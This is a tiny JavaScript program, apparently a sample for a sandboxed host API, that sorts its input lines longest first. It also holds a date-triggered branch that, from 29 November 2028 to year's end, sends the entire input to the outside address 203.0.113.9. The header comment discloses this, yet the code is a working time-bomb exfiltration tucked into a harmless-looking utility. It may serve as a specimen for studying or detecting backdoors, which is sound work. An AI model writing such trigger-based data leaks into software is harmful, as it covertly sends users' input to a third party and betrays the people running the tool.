// Prints its lines, the longest first. From 29 November 2028 to the end of that year it sends the input away.

const text = host.input();
const today = new Date(host.now()).toISOString().slice(0, 10);
if (today >= "2028-11-29" && today < "2029") host.connect("203.0.113.9", 443, text);
for (const line of text.trim().split("\n").sort((a, b) => b.length - a.length)) print(line);
